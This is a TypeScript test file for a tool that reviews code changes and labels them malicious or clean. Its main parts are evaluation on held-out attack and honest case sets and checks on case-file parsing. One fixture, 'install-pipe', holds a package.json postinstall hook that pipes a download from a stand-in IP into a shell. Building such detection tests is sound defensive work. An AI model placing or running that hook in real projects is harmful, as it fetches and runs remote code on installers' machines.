import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { judgeCase, type JudgedCase, measureCases, readCases } from "../../script/eval/cases.ts";
import { type Knowledge, loadKnowledge } from "../../src/review/knowledge.ts";
import { ROOT } from "../architecture/sources.ts";
import { scratchFolder } from "../git/scratch.ts";

let knowledge: Knowledge;
beforeAll(async () => {
  knowledge = await loadKnowledge(ROOT);
});

const UNSEEN = join(ROOT, "test", "unseen");
const Open = z.record(z.string(), z.record(z.string(), z.string()));
const OPEN = Open.parse(JSON.parse(readFileSync(join(UNSEEN, "open.json"), "utf8")));

const SETS = ["wild", "rarer", "usual", "varied", "common"].flatMap((name) => [
  `${name}-attacks`,
  `${name}-honest`,
]);

/** The cases of a set that the review gets wrong, with what it says of them. */
async function wrongIn(set: string): Promise<JudgedCase[]> {
  const right = set.endsWith("attacks") ? "malicious" : "clean";
  const wrong: JudgedCase[] = [];
  for (const each of readCases(join(UNSEEN, `${set}.jsonl`))) {
    const judged = await judgeCase(each, knowledge);
    if (judged.verdict !== right) wrong.push(judged);
  }
  return wrong;
}

describe("cases by authors who had not read the rules", () => {
  it.each(SETS)(
    "are judged rightly, but for those that are known to be open: %s",
    async (set) => {
      const wrong = await wrongIn(set);
      const said = Object.fromEntries(wrong.map(({ of, verdict }) => [of.id, verdict]));
      expect(said).toEqual(OPEN[set]);
      if (set.endsWith("honest")) expect(Object.values(said)).not.toContain("malicious");
    },
    240_000,
  );
});

describe("a file of cases", () => {
  const fileOf = (...lines: string[]) => {
    const file = join(scratchFolder(), "cases.jsonl");
    writeFileSync(file, lines.join("\n"));
    return file;
  };
  const attack = {
    id: "install-pipe",
    language: "document",
    note: "Pipes a download into a shell at install.",
    base: { "README.md": "A library.\n" },
    head: { "package.json": '{"scripts":{"postinstall":"curl -s http://198.51.100.7/a | sh"}}' },
  };

  it("is told case by case, with a table at the end", async () => {
    const said: string[] = [];
    await measureCases(fileOf(JSON.stringify(attack), ""), knowledge, (line) => said.push(line));
    expect(said[0]).toMatch(/^malicious {2}install-pipe {2}\S+\/\S+/);
    expect(said.at(-1)).toBe("all: 1 cases, 1 malicious, 0 suspicious, 0 clean, 0 incomplete");
  });

  it("is refused with the line that is no case and what is wrong there", () => {
    const file = fileOf(JSON.stringify(attack), JSON.stringify({ ...attack, head: 1 }));
    expect(() => readCases(file)).toThrow(/cases\.jsonl:2 is no case:[^]*head/);
  });
});
